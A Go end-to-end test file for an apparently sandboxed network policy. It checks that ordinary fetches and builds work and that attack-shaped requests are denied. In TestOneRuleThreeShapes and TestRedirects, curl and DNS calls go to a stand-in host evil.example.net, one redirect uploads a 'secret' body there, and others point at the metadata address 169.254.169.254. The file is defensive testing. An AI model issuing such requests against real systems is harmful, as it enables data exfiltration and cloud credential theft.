package e2e

import (
	"net/http"
	"path/filepath"
	"strings"
	"testing"
)

// TestUsability holds what systems of this kind broke for honest work.
func TestUsability(t *testing.T) {
	w := newWorld(t, ordinaryUser(t))
	w.policy(publicAPI)
	const granted = "https://api.example.com/public/a"

	t.Run("USE-01 Node fetch without proxy variables", func(t *testing.T) {
		w.control(command("node", "-e", `
for (const name of Object.keys(process.env)) if (/_proxy$/i.test(name)) { console.log(name); process.exit(3) }
fetch("`+granted+`").then(r => { console.log(r.status); process.exit(r.ok ? 0 : 1) })`)).wantExit(0).wantStdout("200").farSide("GET " + granted)
	})
	t.Run("USE-02 Go programs accept the run's authority", func(t *testing.T) {
		w.control(goClient(w, "get", granted)).wantStatus(200).farSide("GET " + granted)
	})
	t.Run("USE-24 no proxy variable in any spelling", func(t *testing.T) {
		w.control(shell(`env | grep -i proxy; test $? = 1`)).wantExit(0).farSideNothing()
	})
	t.Run("USE-25 loopback stays inside", func(t *testing.T) {
		w.control(python(`
import http.server, threading, urllib.request
s = http.server.HTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=s.serve_forever, daemon=True).start()
for host in ("127.0.0.1", "localhost"):
    print(urllib.request.urlopen("http://%s:%d/" % (host, s.server_port)).status)
`, false)).wantExit(0).wantStdout("200\n200").wantDenials().farSideNothing()
	})
	t.Run("go build where there is no repository", func(t *testing.T) {
		w.work("go.mod", "module example.com/x\n\ngo 1.26\n")
		w.work("main.go", "package main\n\nfunc main() {}\n")
		tool := goCommand(t)
		w.flags = []string{"--ro", filepath.Dir(filepath.Dir(tool))}
		defer func() { w.flags = nil }()
		w.control(shell(tool + " build -n . 2>log || { cat log; exit 1; }")).wantExit(0).farSideNothing()
	})
	t.Run("USE-26 hard links in the writable folder", func(t *testing.T) {
		w.control(shell(`echo x >a && ln a b && rm a && cat b`)).wantExit(0).wantStdout("x").farSideNothing()
	})
}

// TestOneRuleThreeShapes: the same forbidden host by name, by connection and through
// the explicit proxy comes out the same, and each is on record under its host.
func TestOneRuleThreeShapes(t *testing.T) {
	w := newWorld(t, ordinaryUser(t))
	w.policy(publicAPI)
	w.control(curl("https://api.example.com/public/a")).wantStatus(200).farSide("GET https://api.example.com/public/a")
	t.Run("USE-20 DNS", func(t *testing.T) {
		w.attack(command("getent", "hosts", "evil.example.net")).wantFailure().wantDenials("name no_grant evil.example.net").farSideNothing()
	})
	t.Run("USE-20 explicit proxy", func(t *testing.T) {
		w.attack(curl(explicitly("https://evil.example.net/")...)).wantFailure().wantReasons("connect no_grant evil.example.net").farSideNothing()
	})
	t.Run("AUD-07 USE-20 direct", func(t *testing.T) {
		w.attack(curl("--resolve", "evil.example.net:443:203.0.113.9", "https://evil.example.net/")).
			wantFailure().wantReasons("connect address_not_granted 203.0.113.9").farSideNothing()
	})
}

// notes grants a small upload besides.
const notes = publicAPI + `
grant "notes" {
  reason     = "test"
  owner      = "test"
  host       = "notes.example.com"
  credential = anonymous
  allow {
    methods = ["GET"]
    path    = "/notes"
  }
  allow {
    methods = ["POST"]
    path    = "/notes"
    body {
      type = "text/plain"
      max  = "1KiB"
    }
  }
}
`

// TestRedirects: what an answer points at is judged like anything else.
func TestRedirects(t *testing.T) {
	w := newWorld(t, ordinaryUser(t))
	w.policy(notes)
	const from = "https://notes.example.com/notes"
	for _, tc := range []struct {
		name, to              string
		transparent, explicit []string // denials
	}{
		// Without a proxy that is the sandbox's own loopback, where nobody listens.
		{"REDIR-01 into the host", "http://127.0.0.1:9/", nil, []string{"http address_not_granted GET 127.0.0.1 /"}},
		{"REDIR-01 to a metadata service", "http://169.254.169.254/latest/", []string{"packet metadata_address tcp 169.254.169.254:80"}, []string{"http metadata_address GET 169.254.169.254 /latest/"}},
		{"REDIR-02 with the body to another host", "https://evil.example.net/upload", []string{"name no_grant evil.example.net"}, []string{"connect no_grant evil.example.net:443"}},
		{"REDIR-02 with the body to another function", "https://api.example.com/public/a", []string{"http method_not_granted POST api.example.com /public/a"}, []string{"http method_not_granted POST api.example.com /public/a"}},
	} {
		for _, f := range fronts {
			t.Run(tc.name+", "+f.name, func(t *testing.T) {
				w.inet.Handle("notes.example.com", http.RedirectHandler(tc.to, http.StatusPermanentRedirect))
				defer w.inet.Handle("notes.example.com", nil)
				denials, method, args := tc.transparent, "GET", append([]string{"-f", "-L", from}, f.args...)
				if strings.HasPrefix(f.name, "explicit") {
					denials = tc.explicit
				}
				if strings.Contains(tc.name, "body") {
					method, args = "POST", append(args, "-H", "Content-Type: text/plain", "-d", "secret")
				}
				w.attack(curl(args...)).wantFailure().wantDenials(denials...).farSide(method + " " + from)
			})
		}
	}
}
